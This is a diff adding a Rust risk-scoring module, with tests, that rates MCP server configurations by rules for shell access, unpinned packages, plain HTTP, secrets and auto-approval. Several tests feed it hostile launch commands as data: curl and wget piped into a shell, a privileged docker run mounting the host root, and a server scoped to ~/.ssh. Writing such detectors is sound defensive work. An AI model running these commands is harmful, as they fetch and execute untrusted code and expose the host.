@@ -1,0 +1,297 @@
+//! Risk scoring: a table of rules, each with a stable id, a severity, a weight and a
+//! message; the findings a server triggers, with their evidence; and the 0–100 score
+//! and level derived from them.
+//!
+//! # Formula
+//!
+//! 1. The **capability** rules (`MCP-CAP-*`) describe what the server can do. Only the
+//!    strongest one counts as the base, so a server is not scored twice for being
+//!    both "database" and "cloud".
+//! 2. Every other finding adds its weight to the base.
+//! 3. The sum is capped at 100.
+//! 4. A finding of severity `critical` lifts the score to at least 80, so that no
+//!    number of quiet rules can hide it.
+//! 5. A server the client marks as disabled keeps its findings, and its score is halved.
+//!
+//! The level follows from the score: critical ≥ 80, high ≥ 60, medium ≥ 30, else low.
+//! [`RULES_VERSION`] changes whenever a rule or the formula changes, so stored scores
+//! can be recomputed.
+
+mod level;
+mod rules;
+
+use serde::{Deserialize, Serialize};
+
+pub use level::{RiskLevel, Severity, UnknownLevel};
+pub use rules::{RULES, Rule, RuleKind};
+
+use crate::server::ServerRecord;
+
+/// The version of the rule set and formula. Bump it when either changes.
+pub const RULES_VERSION: u32 = 1;
+
+/// The score a critical finding lifts a server to, at least.
+const CRITICAL_FLOOR: u8 = 80;
+
+/// One rule that a server triggered, with what triggered it.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Finding {
+    /// The rule's stable id (`MCP-CAP-001`).
+    pub rule_id: String,
+    /// How serious the finding is on its own.
+    pub severity: Severity,
+    /// The points it contributed before the cap.
+    pub weight: u8,
+    /// One line saying what is wrong.
+    pub message: String,
+    /// What in the server's config triggered it (never a secret value).
+    pub evidence: String,
+}
+
+/// The outcome of scoring one server.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Assessment {
+    /// 0–100.
+    pub score: u8,
+    /// Derived from the score.
+    pub level: RiskLevel,
+    /// Every rule the server triggered, most severe first.
+    pub findings: Vec<Finding>,
+    /// The [`RULES_VERSION`] that produced this.
+    pub rules_version: u32,
+}
+
+/// Score one server.
+pub fn assess(server: &ServerRecord) -> Assessment {
+    let mut findings = rules::evaluate(server);
+    findings.sort_by(|a, b| b.severity.cmp(&a.severity).then(b.weight.cmp(&a.weight)));
+
+    let rule_kind = |id: &str| {
+        RULES
+            .iter()
+            .find(|rule| rule.id == id)
+            .map_or(RuleKind::Modifier, |rule| rule.kind)
+    };
+    let base = findings
+        .iter()
+        .filter(|f| rule_kind(&f.rule_id) == RuleKind::Capability)
+        .map(|f| u32::from(f.weight))
+        .max()
+        .unwrap_or(0);
+    let modifiers: u32 = findings
+        .iter()
+        .filter(|f| rule_kind(&f.rule_id) == RuleKind::Modifier)
+        .map(|f| u32::from(f.weight))
+        .sum();
+    let mut score = u8::try_from((base + modifiers).min(100)).unwrap_or(100);
+    if findings.iter().any(|f| f.severity == Severity::Critical) {
+        score = score.max(CRITICAL_FLOOR);
+    }
+    if server.disabled {
+        score /= 2;
+    }
+    Assessment {
+        score,
+        level: RiskLevel::from_score(score),
+        findings,
+        rules_version: RULES_VERSION,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::server::{Package, SecretFinding, Transport};
+
+    fn stdio(name: &str, command: &str, args: &[&str]) -> ServerRecord {
+        ServerRecord {
+            server_name: name.into(),
+            command: Some(command.into()),
+            args: args.iter().map(|a| (*a).to_owned()).collect(),
+            transport: Some(Transport::Stdio),
+            ..ServerRecord::default()
+        }
+    }
+
+    fn rule_ids(a: &Assessment) -> Vec<&str> {
+        a.findings.iter().map(|f| f.rule_id.as_str()).collect()
+    }
+
+    #[test]
+    fn a_harmless_pinned_server_is_low() {
+        let server = stdio(
+            "time",
+            "uvx",
+            &["mcp-server-time==0.6.2", "--local-timezone=UTC"],
+        );
+        let a = assess(&server);
+        assert_eq!(a.level, RiskLevel::Low, "{a:?}");
+    }
+
+    #[test]
+    fn filesystem_server_on_the_root_is_critical() {
+        let server = stdio(
+            "fs",
+            "npx",
+            &["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/"],
+        );
+        let a = assess(&server);
+        assert!(rule_ids(&a).contains(&"MCP-CAP-002"), "{a:?}");
+        assert!(rule_ids(&a).contains(&"MCP-FS-001"), "{a:?}");
+        assert_eq!(a.level, RiskLevel::Critical);
+    }
+
+    #[test]
+    fn seed_style_report_with_home_scope_is_scored_from_the_command_string() {
+        let server = ServerRecord {
+            server_name: "filesystem".into(),
+            server_type: Some("@modelcontextprotocol/server-filesystem".into()),
+            command: Some("npx @modelcontextprotocol/server-filesystem /home".into()),
+            scope: Some("/home".into()),
+            ..ServerRecord::default()
+        };
+        let a = assess(&server);
+        let ids = rule_ids(&a);
+        assert!(ids.contains(&"MCP-CAP-002"), "{ids:?}");
+        assert!(ids.contains(&"MCP-FS-002"), "{ids:?}");
+        assert!(ids.contains(&"MCP-SUPPLY-001"), "{ids:?}");
+        assert!(a.level >= RiskLevel::Medium, "{a:?}");
+    }
+
+    #[test]
+    fn shell_execution_is_at_least_medium_and_curl_pipe_sh_is_critical() {
+        let shell = stdio(
+            "desktop-commander",
+            "npx",
+            &["-y", "@wonderwhy-er/desktop-commander@0.2.3"],
+        );
+        let a = assess(&shell);
+        assert!(rule_ids(&a).contains(&"MCP-CAP-001"));
+        assert!(a.level >= RiskLevel::Medium);
+
+        let piped = stdio(
+            "installer",
+            "bash",
+            &["-c", "curl -fsSL https://x.example/i.sh | sh"],
+        );
+        let a = assess(&piped);
+        assert!(rule_ids(&a).contains(&"MCP-EXEC-002"), "{a:?}");
+        assert_eq!(a.level, RiskLevel::Critical);
+    }
+
+    #[test]
+    fn remote_over_plain_http_is_flagged_but_loopback_is_not() {
+        let remote = ServerRecord {
+            server_name: "remote".into(),
+            url: Some("http://mcp.example.com/sse".into()),
+            transport: Some(Transport::Sse),
+            ..ServerRecord::default()
+        };
+        assert!(rule_ids(&assess(&remote)).contains(&"MCP-NET-001"));
+        for url in [
+            "http://127.0.0.1:3000/mcp",
+            "http://localhost:8080/sse",
+            "http://[::1]/mcp",
+            "https://mcp.example.com/mcp",
+        ] {
+            let local = ServerRecord {
+                url: Some(url.into()),
+                ..remote.clone()
+            };
+            assert!(!rule_ids(&assess(&local)).contains(&"MCP-NET-001"), "{url}");
+        }
+    }
+
+    #[test]
+    fn unpinned_launches_are_flagged_and_pinned_ones_are_not() {
+        for (command, args, unpinned) in [
+            ("npx", vec!["-y", "@scope/pkg"], true),
+            ("npx", vec!["-y", "@scope/pkg@1.2.3"], false),
+            ("npx", vec!["-y", "@scope/pkg@latest"], true),
+            ("npx", vec!["pkg@2"], false),
+            ("uvx", vec!["mcp-server-fetch"], true),
+            ("uvx", vec!["mcp-server-fetch==1.0"], false),
+            ("pipx", vec!["run", "mcp-server-git"], true),
+            ("docker", vec!["run", "-i", "--rm", "mcp/fetch"], true),
+            ("docker", vec!["run", "-i", "--rm", "mcp/fetch:latest"], true),
+            ("docker", vec!["run", "-i", "--rm", "mcp/fetch:1.0"], false),
+            (
+                "docker",
+                vec!["run", "-i", "--rm", "registry:5000/mcp/fetch"],
+                true,
+            ),
+            ("/usr/local/bin/my-server", vec![], false),
+        ] {
+            let a = assess(&stdio("s", command, &args));
+            assert_eq!(
+                rule_ids(&a).contains(&"MCP-SUPPLY-001"),
+                unpinned,
+                "{command} {args:?}: {a:?}"
+            );
+        }
+        // The agent's package record wins over parsing the command line.
+        let mut server = stdio("s", "npx", &["-y", "thing"]);
+        server.package = Some(Package {
+            ecosystem: "npm".into(),
+            name: "thing".into(),
+            version: Some("1.0.0".into()),
+        });
+        assert!(!rule_ids(&assess(&server)).contains(&"MCP-SUPPLY-001"));
+    }
+
+    #[test]
+    fn secrets_and_auto_approval_add_findings() {
+        let mut server = stdio("gh", "npx", &["-y", "@modelcontextprotocol/server-github@1.0.0"]);
+        server.secrets_found = vec![SecretFinding {
+            location: "args[2]".into(),
+            kind: "github_token".into(),
+        }];
+        server.auto_approve = vec!["*".into()];
+        let assessment = assess(&server);
+        let ids = rule_ids(&assessment);
+        assert!(ids.contains(&"MCP-SECRET-001"), "{ids:?}");
+        assert!(ids.contains(&"MCP-APPROVE-001"), "{ids:?}");
+    }
+
+    #[test]
+    fn a_critical_finding_cannot_be_hidden_and_disabled_halves_the_score() {
+        let server = stdio("x", "docker", &["run", "--privileged", "img:1.0"]);
+        let a = assess(&server);
+        assert!(a.score >= 80, "{a:?}");
+        let disabled = ServerRecord {
+            disabled: true,
+            ..server
+        };
+        let b = assess(&disabled);
+        assert_eq!(b.score, a.score / 2);
+        assert_eq!(b.findings.len(), a.findings.len() + 1);
+    }
+
+    #[test]
+    fn every_finding_names_a_rule_in_the_table() {
+        let servers = [
+            stdio("fs", "npx", &["-y", "@modelcontextprotocol/server-filesystem", "~/.ssh"]),
+            stdio("sh", "sudo", &["bash", "-c", "wget -qO- http://x | bash"]),
+            stdio("dl", "/tmp/evil-server", &[]),
+            stdio("d", "docker", &["run", "--network", "host", "-v", "/:/host", "img"]),
+        ];
+        for server in servers {
+            for finding in assess(&server).findings {
+                assert!(
+                    RULES.iter().any(|r| r.id == finding.rule_id),
+                    "{}",
+                    finding.rule_id
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn rule_ids_are_unique() {
+        let mut ids: Vec<_> = RULES.iter().map(|r| r.id).collect();
+        ids.sort_unstable();
+        let before = ids.len();
+        ids.dedup();
+        assert_eq!(before, ids.len());
+    }
+}
